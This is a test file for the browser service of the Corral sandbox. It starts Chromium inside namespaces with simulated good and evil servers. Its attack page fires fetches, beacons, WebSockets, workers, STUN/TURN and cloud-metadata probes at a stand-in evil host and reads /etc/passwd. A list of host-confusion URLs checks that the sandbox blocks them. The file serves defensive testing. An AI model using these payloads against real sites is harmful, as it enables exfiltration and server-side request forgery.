#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The browser behind browser.navigate, text, screenshot, eval_js and close: a real Chromium, local
pages, and pages that attack.

    browser.py --corral PROGRAM [--bare]     prints TAP

It goes into namespaces of its own (as tests/net does) and makes a very small internet there: a name
server with a log, web servers at a granted and at a forbidden address, and a socket that hears UDP.
What counts is what these servers saw, not what a page says. Each attack is first made by a Chromium
without Corral, where it must reach the forbidden address. As root the main part is done a second
time as an ordinary user.
"""

import argparse
import base64
import http.client
import http.server
import json
import os
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zlib

MARK = "CORRAL_BROWSER_WORLD"
CHROMIUM = "/usr/lib/chromium/chromium"
GOOD, EVIL, RESOLVER = "93.184.216.34", "185.220.101.7", "9.9.9.9"
HOST, GATE = "45.33.32.1", "45.33.32.2"
METADATA = "169.254.169.254"
PRIVATE = "10.11.12.13"
PYTHON = "/usr/bin/python3"
ORDINARY = 54321
number = failures = 0

ATTACK = r"""<title>attack</title><body>
<img src=http://evil.example/img><script src=http://evil.example/script></script>
<link rel=stylesheet href=http://evil.example/style><iframe src=http://evil.example/frame></iframe>
<link rel=dns-prefetch href=//prefetched.evil.example><link rel=preconnect href=http://preconnected.evil.example>
<iframe name=f></iframe><form target=f method=post action=http://evil.example/form></form>
<iframe src="file:///etc/passwd"></iframe>
<script>
document.forms[0].submit();
fetch('http://evil.example/fetch', {mode: 'no-cors'}).catch(() => 0);
fetch('http://EVIL/by-address', {mode: 'no-cors'}).catch(() => 0);
fetch('http://METADATA/latest', {mode: 'no-cors'}).catch(() => 0);
navigator.sendBeacon('http://evil.example/beacon', 'x');
new WebSocket('ws://evil.example/websocket').onerror = () => 0;
new EventSource('http://evil.example/events').onerror = e => e.target.close();
new Worker(URL.createObjectURL(new Blob(["fetch('http://evil.example/worker', {mode: 'no-cors'})"])));
navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => 0);
const p = new RTCPeerConnection({iceServers: [{urls: 'stun:EVIL:3478'},
  {urls: 'turn:turn.evil.example:3478?transport=tcp', username: 'u', credential: 'c'}]});
p.createDataChannel('x');
p.createOffer().then(o => p.setLocalDescription(o));
</script>""".replace("EVIL", EVIL).replace("METADATA", METADATA)

SERVICE_WORKER = r"""
self.addEventListener('install', e => e.waitUntil(
  fetch('http://evil.example/service-worker', {mode: 'no-cors'}).catch(() => 0)));
"""

# What must be seen of it at the forbidden address, or by the name server.
SIGNS = ["img", "script", "style", "frame", "form", "fetch", "by-address", "beacon", "websocket", "events", "worker",
         "service-worker", "latest"]
NAMES = ["evil.example", "prefetched.evil.example", "preconnected.evil.example", "turn.evil.example"]

PAGES = {
    "/": "<title>Hello</title><body style='margin:0;background:#0080ff'><p>words <b>here</b>"
         "<script>document.body.append(' sum ' + (40 + 2))</script>",
    "/attack": ATTACK,
    "/tall": "<title>tall</title><body style='margin:0'><div style='height:3000px;background:#00ff00'></div>",
    "/alerts": "<title>alerts</title><script>while (true) alert(1)</script>",
    "/later-alerts": "<title>later</title>soon<script>setTimeout(() => { while (true) alert(1) }, 200)</script>",
    "/endless": "<title>endless</title><script>while (true);</script>",
    "/leave": "<title>leave</title><script>onbeforeunload = e => { e.preventDefault(); return 'no' }</script>stay",
    "/client-redirect": "<script>location.replace('http://evil.example/client-redirect')</script>",
    "/huge": "<body><script>document.title = 'T'.repeat(1e6);"
             "document.body.textContent = '\\u00e9\\ud800\\0'.repeat(3e5)</script>",
    "/clobber": "<body><img name=body><p>hidden<script>String.prototype.slice = () => 'lie';"
                "String = () => 'lie'</script>",
    "/popped": "<title>popped</title>",
    "/frames": "<title>frames</title><iframe src=/></iframe>framed",
}

# Runs inside: a call for each line of stdin.
INSIDE = r"""
import json, os, socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(os.environ["SANDBOX_SOCKET"])
f = s.makefile()
for line in sys.stdin:
    s.sendall(line.encode())
    print(f.readline(), end="", flush=True)
"""


def ok(holds, name, *context):
    global number, failures
    number += 1
    print(f"{'ok' if holds else 'not ok'} {number} - {name}", flush=True)
    if not holds:
        failures += 1
        for part in context:
            print("# " + repr(part)[:2000], flush=True)


# The world

def enter():
    if os.environ.get(MARK):
        return None
    user = [] if os.geteuid() == 0 else ["--user", "--map-root-user"]
    unshare = ["unshare", *user, "--net", "--mount", "--propagation", "private", "--"]
    trial = subprocess.run([*unshare, "ip", "link", "add", "name", "a", "type", "veth", "peer", "name", "b"],
                           text=True, check=False, capture_output=True)
    if trial.returncode != 0:
        return " ".join(trial.stderr.split())
    os.environ[MARK] = "user" if user else "root"
    return os.execvp(unshare[0], [*unshare, sys.executable, *sys.argv])


def ip(*lines):
    for line in lines:
        subprocess.run(["ip", *line.split()], check=True)


def make_world():
    """This namespace is the host's; another one has the servers, since a host's own addresses are not the internet."""
    child = subprocess.Popen(["unshare", "--net", "--", sys.executable, *sys.argv], stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE, text=True, env={**os.environ, MARK: "internet"})
    child.stdout.readline()
    ip("link set lo up", "link add name out type veth peer name in", f"link set in netns {child.pid}", "link set out up",
       f"addr add {HOST}/24 dev out", f"route add default via {GATE}")
    child.stdin.write("\n")
    child.stdin.flush()
    child.stdout.readline()
    start(read_log, child.stdout)
    path = os.path.join(scratch, "resolv.conf")
    with open(path, "w", encoding="utf-8") as f:
        f.write(f"nameserver {RESOLVER}\noptions timeout:30 attempts:2\n")
    os.chmod(path, 0o644)
    subprocess.run(["mount", "--bind", path, os.path.realpath("/etc/resolv.conf")], check=True)
    start(Server(("127.0.0.1", 80), Handler).serve_forever)


def read_log(lines):
    for line in lines:
        log.add(*line.split())


def say(where, what):
    with log.lock:
        print(where, what or "-", flush=True)


def be_internet():
    """The other process: a line says that it is there, one that its device came, and then all that it sees."""
    print("there", flush=True)
    sys.stdin.readline()
    ip("link set lo up", "link set in up", f"addr add {GATE}/24 dev in")
    ip(*[f"addr add {a}/32 dev lo" for a in (GOOD, EVIL, RESOLVER, METADATA, PRIVATE)])
    log.add = say
    for address in (GOOD, EVIL, METADATA, PRIVATE):
        start(Server((address, 80), Handler).serve_forever)
    start(secure(Server((GOOD, 443), Handler)).serve_forever)
    start(serve_names, bound(socket.SOCK_DGRAM, RESOLVER, 53))
    start(hear_datagrams, bound(socket.SOCK_DGRAM, EVIL, 3478))
    start(hear_streams, bound(socket.SOCK_STREAM, EVIL, 3478))
    print("ready", flush=True)
    sys.stdin.readline()


class Log:
    """What came to the servers: (where, what)."""

    def __init__(self):
        self.rows, self.lock, self.marks = [], threading.Lock(), 0

    def add(self, where, what):
        with self.lock:
            self.rows.append((where, what))

    def take(self):
        """What came since the last time. The servers are in another process: a request of our own stands behind it."""
        self.marks += 1
        mark = ("good", f"/mark-{self.marks}")
        connection = http.client.HTTPConnection(GOOD, timeout=60)
        connection.request("GET", mark[1])
        connection.getresponse().read()
        connection.close()
        assert until(lambda: mark in self.rows), "the servers' log does not come"
        with self.lock:
            rows, self.rows = [row for row in self.rows if row != mark], []
        return rows


log = Log()


class Server(http.server.ThreadingHTTPServer):
    def handle_error(self, *_):
        """A browser that ends, or a page that is left, does not wait for answers."""


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"

    def do_GET(self):
        where, path = self.server.server_address[0], self.path.split("?")[0]
        log.add("evil" if where in (EVIL, METADATA) else "good", path)
        if path == "/redirect":
            self.reply(302, "", ("Location", "http://evil.example/redirected"))
        elif path == "/download":
            self.reply(200, "x" * 1000, ("Content-Type", "application/octet-stream"),
                       ("Content-Disposition", "attachment; filename=x"))
        elif path == "/sw.js":
            self.reply(200, SERVICE_WORKER, ("Content-Type", "text/javascript"))
        elif path == "/never":
            time.sleep(20)
        elif path in PAGES:
            self.reply(200, PAGES[path], ("Content-Type", "text/html"))
        else:
            self.reply(404, "none", ("Content-Type", "text/plain"))

    do_POST = do_GET

    def reply(self, status, text, *headers):
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_):
        pass


def secure(server):
    """With a certificate for good.example that no authority has signed."""
    with tempfile.TemporaryDirectory() as folder:
        key, certificate = os.path.join(folder, "key"), os.path.join(folder, "certificate")
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2",
                        "-subj", "/CN=good.example", "-addext", "subjectAltName=DNS:good.example", "-keyout", key, "-out", certificate],
                       check=True, capture_output=True)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(certificate, key)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    return server


def serve_names(s):
    while True:
        data, peer = s.recvfrom(4096)
        labels, at = [], 12
        while data[at]:
            labels.append(data[at + 1:at + 1 + data[at]].decode("latin-1"))
            at += 1 + data[at]
        name, kind = ".".join(labels).lower(), struct.unpack(">H", data[at + 1:at + 3])[0]
        log.add("names", name)
        address = next((a for end, a in (("good.example", GOOD), ("evil.example", EVIL), ("private.example", PRIVATE)) if name.endswith(end)), None)
        answer = b""
        if address and kind == 1:
            answer = b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4" + socket.inet_aton(address)
        head = data[:2] + (b"\x81\x80" if address else b"\x81\x83") + b"\0\1" + struct.pack(">H", bool(answer)) + b"\0" * 4
        s.sendto(head + data[12:at + 5] + answer, peer)


def hear_datagrams(s):
    while True:
        s.recvfrom(4096)
        log.add("udp", "stun")


def hear_streams(s):
    while True:
        connection, _ = s.accept()
        log.add("tcp", "turn")
        connection.close()


def start(target, *args):
    threading.Thread(target=target, args=args, daemon=True).start()


def bound(kind, address, port):
    s = socket.socket(socket.AF_INET, kind)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((address, port))
    if kind == socket.SOCK_STREAM:
        s.listen()
    return s


# Without Corral

class Bare:
    """A Chromium as it is."""

    def __init__(self):
        self.folder = tempfile.mkdtemp(dir=scratch)
        line = (f"exec {CHROMIUM} --headless --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run "
                f"--remote-debugging-pipe --user-data-dir={self.folder}/profile 3<&0 4>&1 </dev/null >/dev/null 2>&1")
        self.child = subprocess.Popen(["sh", "-c", line], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                      cwd=self.folder, env={**os.environ, "HOME": self.folder})
        self.last, self.rest, self.session = 0, b"", None
        target = self.call("Target.createTarget", url="about:blank")["targetId"]
        self.session = self.call("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]

    def call(self, called, **params):
        self.last += 1
        message = {"id": self.last, "method": called, "params": params}
        if self.session:
            message["sessionId"] = self.session
        self.child.stdin.write(json.dumps(message).encode() + b"\0")
        self.child.stdin.flush()
        while True:
            while b"\0" not in self.rest:
                more = os.read(self.child.stdout.fileno(), 1 << 20)
                assert more, "Chromium ended"
                self.rest += more
            text, self.rest = self.rest.split(b"\0", 1)
            answer = json.loads(text)
            if answer.get("id") == self.last:
                return answer.get("result", answer)

    def eval(self, text, **more):
        return self.call("Runtime.evaluate", expression=text, returnByValue=True, **more).get("result", {}).get("value")

    def close(self):
        self.child.kill()
        self.child.wait()


def missing(rows):
    """The attacks that left no sign."""
    evil = {what.strip("/") for where, what in rows if where == "evil"}
    names = {what for where, what in rows if where == "names"}
    return [s for s in SIGNS if s not in evil] + [n for n in NAMES if n not in names] + \
        [w for w in ("udp", "tcp") if w not in {where for where, _ in rows}]


def until(condition, seconds=60):
    end = time.monotonic() + seconds
    while not condition() and time.monotonic() < end:
        time.sleep(0.02)
    return condition()


def test_bare():
    bare = Bare()
    log.take()
    bare.call("Page.navigate", url="http://localhost/attack")
    rows = []
    until(lambda: rows.extend(log.take()) or not missing(rows))
    ok(not missing(rows), "bare: each attack of the page reaches the forbidden servers", missing(rows), rows)
    bare.eval("window.open('http://localhost/popped')", userGesture=True)
    opened = []
    ok(until(lambda: opened.extend(log.take()) or ("good", "/popped") in opened), "bare: a page opens windows")
    bare.call("Page.navigate", url="http://localhost/redirect")
    led = []
    ok(until(lambda: led.extend(log.take()) or ("evil", "/redirected") in led), "bare: a redirect leads to another host", led)
    for url, sign in (("file:///etc/passwd", "root:"), ("view-source:http://localhost/", "40 + 2")):
        bare.call("Page.navigate", url=url)
        ok(until(lambda: sign in str(bare.eval("document.body.innerText"))), f"bare: {url} is shown")
    bare.call("Browser.setDownloadBehavior", behavior="allow", downloadPath=bare.folder)
    bare.call("Page.navigate", url="http://localhost/download")
    ok(until(lambda: os.path.exists(os.path.join(bare.folder, "x"))), "bare: a download becomes a file", os.listdir(bare.folder))
    bare.close()


# With Corral

class Inside:
    """A sandbox with a broker; calls go through a program inside."""

    def __init__(self, account, services, *options, network=None):
        policy = os.path.join(scratch, f"policy-{account.name}.json")
        with open(policy, "w", encoding="utf-8") as f:
            json.dump({"fs": {"read": ["/usr/**"]}, "services": services, **({"network": network} if network else {})}, f)
        os.chmod(policy, 0o644)
        words = [*account.prefix, arguments.corral, "run", "--broker", "--policy", policy, *options, "--",
                 PYTHON, "-c", INSIDE]
        self.child = subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.PIPE, cwd="/", text=True,
                                      env=account.environment)
        self.last = 0

    def call(self, called, /, **params):
        self.last += 1
        message = {"jsonrpc": "2.0", "id": self.last, "method": called, "params": params}
        self.child.stdin.write(json.dumps(message) + "\n")
        self.child.stdin.flush()
        return json.loads(self.child.stdout.readline())

    def close(self):
        self.child.stdin.close()
        return self.child.wait(120)


def result(answer):
    return answer.get("result", {})


def code(answer):
    return answer.get("error", {}).get("code")


def text(answer):
    return answer.get("error", {}).get("message", "")


def pixels(png):
    """Width, height, and the colour at the top left."""
    if png[:8] != b"\x89PNG\r\n\x1a\n":
        return None, None, None
    width, height, depth, kind = struct.unpack(">IIBB", png[16:26])
    data, at = b"", 8
    while at < len(png):
        length, name = struct.unpack(">I4s", png[at:at + 8])
        if name == b"IDAT":
            data += png[at + 8:at + 8 + length]
        at += 12 + length
    size = {2: 3, 6: 4}[kind]
    rows = zlib.decompress(data)
    assert depth == 8 and len(rows) == height * (1 + width * size)
    # The first pixel is what it is, whatever the filter of its row.
    return width, height, tuple(rows[1:4])


def processes():
    """{pid: (its parent, its command line)} of all that run."""
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as line, open(f"/proc/{pid}/stat", encoding="utf-8", errors="replace") as stat:
                found[int(pid)] = int(stat.read().rpartition(")")[2].split()[1]), line.read()
        except OSError:
            pass  # it has just ended
    return found


def browsers():
    """Processes of Chromium in our sandboxes, by their profile; not those of others on this machine."""
    found = processes()

    def ours(pid):
        while pid in found and pid != os.getpid():
            pid = found[pid][0]
        return pid == os.getpid()

    return [(pid, line) for pid, (_, line) in found.items()
            if b"--user-data-dir=/tmp/profile" in line and CHROMIUM.encode() in line and ours(pid)]


def ended():
    """All processes of the browser are gone, within a moment."""
    return until(lambda: not browsers())


def renderers():
    return [pid for pid, line in browsers() if b"--type=renderer" in line]


ALL = {"browser": {"access": ["navigate", "screenshot", "eval"], "domains": ["localhost", "good.example"]}}


def test_pages(s, who):
    r = s.call("browser.navigate", url="http://good.example/")
    ok(result(r) == {"url": "http://good.example/", "title": "Hello", "status": 200}, f"{who}: navigate", r)
    r = s.call("browser.text")
    ok(result(r).get("text", "").split() == ["words", "here", "sum", "42"] and not result(r)["truncated"],
       f"{who}: text, after scripts ran", r)
    r = result(s.call("browser.screenshot"))
    picture = base64.b64decode(r.get("data", ""))
    ok(r.get("encoding") == "base64" and pixels(picture) == (1280, 720, (0, 128, 255)) and r["width"] == 1280,
       f"{who}: screenshot, a PNG of the page", picture[:64])
    r = result(s.call("browser_screenshot", width=300, height=200))
    ok(pixels(base64.b64decode(r.get("data", "")))[:2] == (300, 200), f"{who}: browser_screenshot, of a smaller window", r)
    r = s.call("browser.eval_js", script="({a: [1, document.title, null]})")
    ok(result(r).get("result") == {"a": [1, "Hello", None]} and result(r)["origin"] == "http://good.example",
       f"{who}: eval_js", r)
    r = s.call("browser_eval_js", script="new Promise(r => setTimeout(() => r(7), 50))")
    ok(result(r).get("result") == 7, f"{who}: browser_eval_js waits for promises", r)
    r = s.call("browser_navigate", url="http://localhost/frames")
    ok(result(r).get("title") == "frames", f"{who}: browser_navigate", r)


def test_results(s):
    r = s.call("browser.eval_js", script="throw new Error('thrown')")
    ok("thrown" in result(r).get("exception", "") and result(r)["result"] is None, "an exception is a result", r)
    r = s.call("browser.eval_js", script="[undefined, NaN, 5]")
    ok(result(r).get("result") == [None, None, 5], "what JSON has not is null", r)
    s.call("browser.navigate", url="http://good.example/tall")
    r = result(s.call("browser.screenshot", width=200, height=100, fullPage=True))
    ok(pixels(base64.b64decode(r.get("data", ""))) == (200, 3000, (0, 255, 0)), "a screenshot of the whole page",
       r.get("width"), r.get("height"))
    ok(code(s.call("browser.screenshot", width=100000)) == -32602, "a width that is too large")
    r = s.call("browser.navigate", url="http://good.example/none")
    ok(result(r).get("status") == 404, "the status of the response", r)
    s.call("browser.navigate", url="http://good.example/clobber")
    r = s.call("browser.text")
    ok("hidden" in result(r).get("text", ""), "a page that replaced String cannot lie to text", r)


def test_scopes(s):
    refused = ["file:///etc/passwd", "view-source:http://good.example/", "chrome://version", "chrome://crash",
               "devtools://devtools/bundled/inspector.html", "javascript:alert(1)", "data:text/html,x", "about:blank",
               "ftp://good.example/", "blob:http://good.example/x", "http://evil.example/", "https://evil.example/.good.example",
               "http://good.example@evil.example/", "http://good.example.evil.example/", "http://g\u043eod.example/",
               f"http://{EVIL}/", "http://3118220551/", f"http://{METADATA}/", "http://sub.good.example/", "http:good.example",
               "http://good.example\\@evil.example/", "http://evil.example\\.good.example/", " http://evil.example/", ""]
    log.take()
    codes = {url: code(s.call("browser.navigate", url=url)) for url in refused}
    ok(set(codes.values()) <= {-32001, -32002, -32602}, "other schemes and other hosts are refused", codes)
    rows = log.take()
    ok(not [r for r in rows if r[0] == "evil"] and not [r for r in rows if r[0] == "names" and "evil" in r[1]],
       "and nothing was asked for", rows)
    r = s.call("browser.navigate", url="http://GOOD.example.:80/")
    ok(result(r).get("title") == "Hello", "another spelling of a granted host", r)


def test_attacks(s):
    s.call("browser.navigate", url="http://localhost/attack")
    rows = []
    ok(until(lambda: rows.extend(log.take()) or ("good", "/sw.js") in rows), "the service worker is there", rows)
    time.sleep(4)  # for what the page tries
    rows += log.take()
    ok(not [r for r in rows if r[0] in ("evil", "udp", "tcp")], "no attack of the page reaches a forbidden server", rows)
    ok(not [r for r in rows if r[0] == "names" and "evil" in r[1]], "no name leaks to the name server", rows)
    r = s.call("browser.eval_js", script="window.open('http://localhost/popped') === null")
    time.sleep(0.5)
    ok(("good", "/popped") not in log.take(), "no window is opened", r)
    for path in ("/redirect", "/client-redirect"):
        r = s.call("browser.navigate", url="http://good.example" + path)
        ok(code(r) == -32002 and "evil.example" in text(r), f"{path} to another host is refused", r)
    ok(not [r for r in log.take() if r[0] == "evil"], "and was not followed")
    ok(code(s.call("browser.text")) == -32602, "the page of a refusal is not shown")
    s.call("browser.navigate", url="http://good.example/")
    for url in ("file:///etc/passwd", "view-source:http://good.example/", "chrome://version"):
        s.call("browser.eval_js", script=f"location = '{url}'; 1")
        time.sleep(0.3)
        r = s.call("browser.text")
        ok(result(r).get("url") == "http://good.example/", f"a script cannot go to {url}", r)
    r = s.call("browser.navigate", url="http://good.example/download")
    ok(code(r) == -32006 and "download" in text(r), "downloads are off", r)


def test_hangs(s):
    r = s.call("browser.navigate", url="http://good.example/alerts", timeout=20000)
    ok(code(r) == -32005 and "dialogs" in text(r), "endless dialogs end the page", r)
    s.call("browser.navigate", url="http://good.example/later-alerts")
    time.sleep(1)
    r = s.call("browser.navigate", url="http://good.example/leave")
    ok(result(r).get("title") == "leave", "dialogs between calls do not matter", r)
    r = s.call("browser.navigate", url="http://good.example/")
    ok(result(r).get("title") == "Hello", "a page cannot keep its visitors", r)
    r = s.call("browser.eval_js", script="while (true);", timeout=4000)
    ok(code(r) == -32004, "an endless script is ended", r)
    r = s.call("browser.eval_js", script="1")
    ok(result(r).get("result") == 1, "and the page goes on", r)
    r = s.call("browser.eval_js", script="new Promise(() => 0)", timeout=3000)
    ok(code(r) == -32004, "a promise that is never kept", r)
    r = s.call("browser.navigate", url="http://good.example/endless", timeout=4000)
    ok(code(r) == -32004, "a page that computes for ever", r)
    r = s.call("browser.navigate", url="http://good.example/huge")
    ok(len(result(r).get("title", "").encode()) <= 1024, "a huge title is cut", r)
    r = s.call("browser.text")
    ok(result(r).get("truncated") is True and 100000 < len(result(r)["text"]) <= 262144, "a huge text is cut",
       str(r)[:200])
    r = s.call("browser.eval_js", script="'x'.repeat(3e7)")
    ok(code(r) in (-32602, -32004), "a huge result is refused", str(r)[:200])
    r = s.call("browser.eval_js", script="let x = []; for (let i = 0; i < 500; i++) x = [x]; x")
    ok(code(r) == -32602, "and one that is too deep", str(r)[:200])
    r = s.call("browser.eval_js", script="'\\ud800'")
    ok(code(r) == -32602, "and one that is no text", r)


def test_ends(s):
    s.call("browser.navigate", url="http://good.example/")
    killed = renderers()
    for pid in killed:
        os.kill(pid, signal.SIGKILL)
    until(lambda: not set(killed) & set(renderers()))
    r = s.call("browser.text")
    ok(code(r) == -32005 and "crashed" in text(r), "a page that crashed is reported", r)
    r = s.call("browser.navigate", url="http://good.example/")
    ok(result(r).get("title") == "Hello", "and there is another one", r)
    first = next(pid for pid, line in browsers() if b"--type=" not in line)
    os.kill(first, signal.SIGKILL)
    until(lambda: first not in dict(browsers()))
    answers = [s.call("browser.navigate", url="http://good.example/") for _ in range(2)]
    ok(result(answers[1]).get("title") == "Hello", "a browser that ended is started again", answers)
    ok(len(browsers()) > 0, "it runs between calls")
    r = s.call("browser.close")
    ok(result(r) == {"closed": True} and ended() and not os.path.exists("/tmp/profile"),
       "close leaves no process and no profile", r, browsers())
    ok(result(s.call("browser.close")) == {"closed": False}, "there is nothing to close then")
    ok(code(s.call("browser.text")) == -32602, "and no page")
    r = s.call("browser.navigate", url="http://good.example/")
    ok(result(r).get("title") == "Hello", "the next call starts it again", r)
    ok(s.close() == 0 and ended(), "it ends with its sandbox", browsers())


def test_accesses(account):
    s = Inside(account, {"browser": {"access": ["navigate"], "domains": ["good.example"]}})
    r = s.call("browser.navigate", url="http://good.example/")
    ok(result(r).get("title") == "Hello", "navigate alone", r)
    codes = [code(s.call("browser.screenshot")), code(s.call("browser.eval_js", script="1"))]
    ok(all(c in (-32001, -32002) for c in codes), "screenshot and eval_js have grants of their own", codes)
    s.close()
    s = Inside(account, {})
    ok(code(s.call("browser.navigate", url="http://good.example/")) == -32001, "nothing without a grant")
    s.close()


def browser(**more):
    return {"browser": {"access": ["navigate", "screenshot"], "domains": ["good.example", "private.example"], **more}}


def test_places(account):
    s = Inside(account, browser())
    log.take()
    r = s.call("browser.navigate", url="https://good.example/")
    ok(code(r) == -32006 and "certificate" in text(r), "https: a certificate that no authority has signed is refused, and that is said", r)
    ok(("good", "/") not in log.take(), "https: and nothing was sent to that server")
    r = s.call("browser.text")
    ok(code(r) == -32602, "https: there is no way past the warning", r)
    r = s.call("browser.navigate", url="http://private.example/")
    ok(code(r) in (-32001, -32002, -32006) and "private" in str(r), "private: a name that leads to a private address is refused, and that is said", r)
    s.close()
    s = Inside(account, browser(), network={"private": ["private.example:80"]})
    r = s.call("browser.navigate", url="http://private.example/")
    ok(result(r).get("title") == "Hello", "private: network.private lets it through", r)
    s.close()


def test_limits(account):
    s = Inside(account, browser(rate_limit="2/h"))
    codes = [code(s.call("browser.navigate", url="http://good.example/")) for _ in range(2)]
    r = s.call("browser.screenshot")
    ok(codes == [None, None] and code(r) == -32003 and "rate_limit" in str(r), "rate_limit: navigate and screenshot count together", codes, r)
    s.close()
    s = Inside(account, browser(max_size="2K"))
    r = s.call("browser.navigate", url="http://good.example/")
    ok(result(r).get("title") == "Hello", "max_size: an answer that is small enough", r)
    r = s.call("browser.screenshot")
    ok(code(r) == -32002 and "max_size" in str(r), "max_size: a larger screenshot is refused", str(r)[:400])
    r = s.call("browser.screenshot", width=20, height=20)
    ok(pixels(base64.b64decode(result(r).get("data", "")))[:2] == (20, 20), "max_size: and a smaller one is not", str(r)[:400])
    s.close()


def test_audit(account):
    path = os.path.join(scratch, "audit.db")
    s = Inside(account, ALL, "--audit", path)
    s.call("browser.navigate", url="http://localhost/attack")
    s.call("browser.navigate", url="http://evil.example/")

    def listed():
        return subprocess.run([arguments.corral, "audit", "list", "--json", path], capture_output=True, text=True, check=False).stdout

    signs = ("browser.navigate:http://localhost/attack", "browser.navigate:http://evil.example/", f"{EVIL}:80", "prefetched.evil.example")
    until(lambda: all(sign in listed() for sign in signs))
    s.close()
    ok(all(sign in listed() for sign in signs), "the log has calls, and the hosts that a page wanted", listed()[-1500:])


def test_absent(account):
    config = os.path.join(scratch, "config")
    os.makedirs(os.path.join(config, "corral"), exist_ok=True)
    with open(os.path.join(config, "corral", "services.yaml"), "w", encoding="utf-8") as f:
        f.write("browser:\n  program: /nowhere/chrome\n")
    other = Account(account.name, account.uid, {"XDG_CONFIG_HOME": config})
    s = Inside(other, ALL)
    r = s.call("browser.navigate", url="http://good.example/")
    ok(code(r) == -32005 and "/nowhere/chrome" in text(r) and "install" in str(r), "without Chromium: what to install", r)
    s.close()
    with open(os.path.join(config, "corral", "services.yaml"), "w", encoding="utf-8") as f:
        f.write("browser:\n  program: /usr/bin/false\n")
    s = Inside(other, ALL)
    r = s.call("browser.navigate", url="http://good.example/")
    ok(code(r) == -32005 and "ended" in text(r), "a program that is no Chromium", r)
    s.close()


class Account:
    def __init__(self, name, uid, more=None):
        self.name, self.uid = name, uid
        self.prefix = [] if uid == 0 else ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--"]
        home = os.path.join(scratch, "home-" + name)
        if not os.path.isdir(home):
            os.mkdir(home)
            if uid:
                os.chown(home, uid, uid)
        self.environment = {k: v for k, v in os.environ.items() if not k.startswith("XDG_")}
        self.environment.update({"HOME": home, **(more or {})})


def main():
    make_world()
    test_bare()
    if arguments.bare:
        return
    root = Account("user", 0)
    s = Inside(root, ALL)
    for part in (lambda s: test_pages(s, "root" if os.environ[MARK] == "root" else "user"), test_results, test_scopes,
                 test_attacks, test_hangs, test_ends):
        part(s)
    test_accesses(root)
    test_places(root)
    test_limits(root)
    test_audit(root)
    test_absent(root)
    if os.environ[MARK] == "root":
        s = Inside(Account("ordinary", ORDINARY), ALL)
        test_pages(s, "an ordinary user")
        s.close()


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--corral", required=True)
    parser.add_argument("--bare", action="store_true")
    arguments = parser.parse_args()
    arguments.corral = os.path.abspath(arguments.corral)
    if not os.path.exists(CHROMIUM):
        print("1..0 # SKIP not installed: chromium")
        sys.exit(0)
    if os.environ.get(MARK) == "internet":
        be_internet()
        sys.exit(0)
    why = enter()
    if why:
        print(f"1..0 # SKIP kernel: no namespaces for the test's own servers: {why}")
        sys.exit(0)
    scratch = tempfile.mkdtemp(prefix="corral-b.")
    os.chmod(scratch, 0o755)
    try:
        main()
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    print(f"1..{number}")
    sys.exit(1 if failures else 0)
